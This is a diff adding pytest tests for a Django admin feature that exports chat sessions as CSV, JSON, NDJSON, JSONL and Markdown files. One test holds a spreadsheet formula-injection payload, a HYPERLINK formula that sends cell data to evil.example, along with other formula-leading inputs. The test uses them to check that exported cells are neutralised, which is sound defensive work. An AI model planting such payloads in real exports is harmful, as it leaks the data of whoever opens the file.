@@ -1,0 +1,231 @@
+"""Sessions as files: one, or all that a filtered list shows."""
+
+import csv
+import io
+import json
+import tracemalloc
+from collections.abc import Callable
+from datetime import timedelta
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import User
+from django.db import connection
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+
+from sessions_app.admin import exporting
+from sessions_app.log import events as ev
+from sessions_app.models import EraseActor, Session, SessionStatus, TranscriptOpening
+from sessions_app.privacy.erase import By, erase_session
+from sessions_app.review.forms import FIELDS, FORMS
+from tests.admin.rows import NOON, call, done, message, result, started, turn, user_says, write_session
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+LIST = "/admin/sessions_app/session/"
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def one(client: Client, session: Session, form: str) -> str:
+    response = client.get(f"{LIST}{session.pk}/transcript.{form}")
+    assert response.status_code == 200
+    assert response["Content-Disposition"] == f'attachment; filename="{session.pk}.{form}"'
+    return b"".join(response).decode()
+
+
+def many(client: Client, form: str, query: str = "") -> str:
+    response = client.get(f"{LIST}export/", {"form": form, "list": query})
+    assert response.status_code == 200
+    assert response["Content-Disposition"] == f'attachment; filename="conversations.{form}"'
+    assert response["X-Content-Type-Options"] == "nosniff"
+    return b"".join(response).decode()
+
+
+def rows_of(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def sessions(number: int, **fields: Any) -> None:
+    for n in range(number):
+        write_session(turn(n), session_id=f"s{n:03}", at=NOON - timedelta(minutes=n // 3), **fields)
+
+
+def test_ndjson_is_a_line_for_the_session_and_for_each_event(viewer: Client) -> None:
+    lines = [
+        json.loads(line) for line in one(viewer, write_session(turn(1), title="T"), "ndjson").splitlines()
+    ]
+    assert [line["type"] for line in lines] == ["session"] + ["event"] * 6
+    assert (lines[0]["title"], lines[1]["content"]) == ("T", "question 1 ")
+
+
+def test_csv_of_a_session_is_its_events(viewer: Client) -> None:
+    rows = rows_of(one(viewer, write_session(turn(1)), "csv"))
+    assert [row["event_type"] for row in rows][:2] == ["user_message", "response_started"]
+    assert rows[0]["content"] == "question 1 "
+
+
+def test_a_chat_is_as_openai_takes_it(viewer: Client) -> None:
+    session = write_session(
+        [
+            ev.OperatorMessage(item_id="o", text="Be brief.", author="ann"),
+            user_says("What time?"),
+            started(),
+            call(),
+            call("call_2"),
+            result(),
+            message("It is 21:14."),
+            done(),
+            user_says("And now?", "item_u2"),
+            ev.ItemDeleted(item_id="item_u2"),
+            started("resp_2"),
+            message("Half", "resp_2", "item_b", "incomplete"),
+            done("resp_2", status="incomplete"),
+            ev.ResponseStarted(response_id="resp_3", provider="demo", model="demo", retry_of="resp_2"),
+            message("Whole", "resp_3", "item_c"),
+            done("resp_3"),
+        ],
+        outcome="resolved",
+        quality=4,
+    )
+    (line,) = one(viewer, session, "jsonl").splitlines()
+    chat = json.loads(line)
+    call_of = {
+        "id": "call_1",
+        "type": "function",
+        "function": {"name": "get_time", "arguments": '{"zone": "Asia/Tokyo"}'},
+    }
+    assert chat["messages"] == [
+        {"role": "system", "content": "Be brief."},
+        {"role": "user", "content": "What time?"},
+        {"role": "assistant", "content": None, "tool_calls": [call_of]},
+        {"role": "tool", "tool_call_id": "call_1", "content": '{"time": "21:14"}'},
+        {"role": "assistant", "content": "It is 21:14."},
+        {"role": "assistant", "content": "Whole"},
+    ]
+    assert chat["metadata"] == {
+        "session_id": session.pk,
+        "model": "",
+        "outcome": "resolved",
+        "sentiment": "",
+        "quality": "4",
+        "feedback_up": "0",
+        "feedback_down": "0",
+    }
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_a_list_comes_whole_and_newest_first_over_its_pages(
+    viewer: Client, monkeypatch: pytest.MonkeyPatch, form: str
+) -> None:
+    monkeypatch.setattr(exporting, "PAGE", 4)
+    sessions(11)
+    text = many(viewer, form)
+    ids = [line.pk for line in Session.objects.order_by("-start_time", "-session_id")]
+    found: dict[str, Callable[[], list[str]]] = {
+        "md": lambda: [line.split()[-1] for line in text.splitlines() if line.startswith("- Session: ")],
+        "json": lambda: [part["session"]["session_id"] for part in json.loads(text)],
+        "ndjson": lambda: [
+            line["session_id"] for line in map(json.loads, text.splitlines()) if line["type"] == "session"
+        ],
+        "csv": lambda: [row["session_id"] for row in rows_of(text)],
+        "jsonl": lambda: [json.loads(line)["metadata"]["session_id"] for line in text.splitlines()],
+    }
+    assert found[form]() == ids
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_a_list_of_none_is_a_file_of_none(viewer: Client, form: str) -> None:
+    text = many(viewer, form)
+    assert {"json": "[]\n", "csv": ",".join(FIELDS) + "\r\n"}.get(form, "") == text
+
+
+def test_the_filter_and_the_search_of_the_list_are_kept(viewer: Client) -> None:
+    sessions(4)
+    Session.objects.filter(pk="s001").update(feedback_down=1)
+    Session.objects.filter(pk="s002").update(title="About lamps")
+    assert [row["session_id"] for row in rows_of(many(viewer, "csv", "feedback=bad"))] == ["s001"]
+    assert [row["session_id"] for row in rows_of(many(viewer, "csv", "q=lamps"))] == ["s002"]
+    html = viewer.get(f"{LIST}?feedback=bad").content.decode()
+    assert '<input type="hidden" name="list" value="feedback=bad">' in html
+
+
+@pytest.mark.parametrize(
+    "words",
+    [ATTACK, "+1", "-1+1", "@SUM(A1)", " =1+1", "\t=1", "\r=1", "\uff1d1+1", "\n=1", "|calc", "%0A=1"],
+)
+def test_nothing_in_a_csv_is_a_formula(viewer: Client, words: str) -> None:
+    session = write_session([user_says(words)], title=words, topics=[words], external_user_id=words)
+    for row in [*rows_of(many(viewer, "csv")), *rows_of(one(viewer, session, "csv"))]:
+        for cell in row.values():
+            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "|", "%")), cell
+    (listed,) = rows_of(many(viewer, "csv"))
+    assert listed["title"] == f"'{words}".replace("\r\n", "\n")
+
+
+def test_figures_and_plain_words_stay_as_they_are(viewer: Client) -> None:
+    write_session([user_says("Hi")], title="Plain", topics=["a", "b"], quality=4, duration_seconds=-1.5)
+    (row,) = rows_of(many(viewer, "csv"))
+    assert (row["title"], row["topics"], row["quality"], row["duration_seconds"]) == (
+        "Plain",
+        "a, b",
+        "4",
+        "-1.5",
+    )
+
+
+def test_each_session_is_written_down_as_downloaded_once(viewer: Client) -> None:
+    sessions(3)
+    for _ in range(2):
+        many(viewer, "ndjson")
+    records = TranscriptOpening.objects.order_by("session_id")
+    assert [(record.session_id, record.staff_name, record.view) for record in records] == [
+        (f"s{n:03}", "viewer", "download") for n in range(3)
+    ]
+
+
+def test_who_may_not_read_gets_nothing(nobody: Client) -> None:
+    sessions(2)
+    assert nobody.get(f"{LIST}export/", {"form": "csv"}).status_code == 403
+    assert Client().get(f"{LIST}export/", {"form": "csv"}).status_code == 302
+    assert not TranscriptOpening.objects.exists()
+
+
+def test_a_form_that_there_is_none_of(viewer: Client) -> None:
+    session = write_session()
+    assert viewer.get(f"{LIST}export/", {"form": "xlsx"}).status_code == 404
+    assert viewer.get(f"{LIST}{session.pk}/transcript.xlsx").status_code == 404
+    assert viewer.post(f"{LIST}export/", {"form": "csv"}).status_code == 403
+
+
+def test_of_an_erased_session_no_word_comes(viewer: Client) -> None:
+    sessions(1, status=SessionStatus.ENDED, title="Secret title")
+    erase_session(session_id="s000", by=By(actor=EraseActor.STAFF))
+    for form in FORMS:
+        text = many(viewer, form)
+        assert "question" not in text
+        assert "Secret" not in text
+
+
+def test_the_queries_of_a_page_are_few_and_memory_does_not_grow_with_the_list(viewer: Client) -> None:
+    User.objects.create(username="ada")
+    rows = [
+        Session(
+            session_id=f"s{n:05}", start_time=NOON - timedelta(seconds=n), title="t" * 150, user_messages=1
+        )
+        for n in range(3_000)
+    ]
+    Session.objects.bulk_create(rows)
+    del rows
+    many(viewer, "csv", "feedback=bad")
+    with CaptureQueriesContext(connection) as queries:
+        tracemalloc.start()
+        try:
+            response = viewer.get(f"{LIST}export/", {"form": "csv", "list": ""})
+            length = sum(map(len, response))
+            _, peak = tracemalloc.get_traced_memory()
+        finally:
+            tracemalloc.stop()
+    assert length > 600_000
+    assert peak < 3_000_000
+    assert len(queries) < 3_000 / exporting.PAGE * 4 + 20
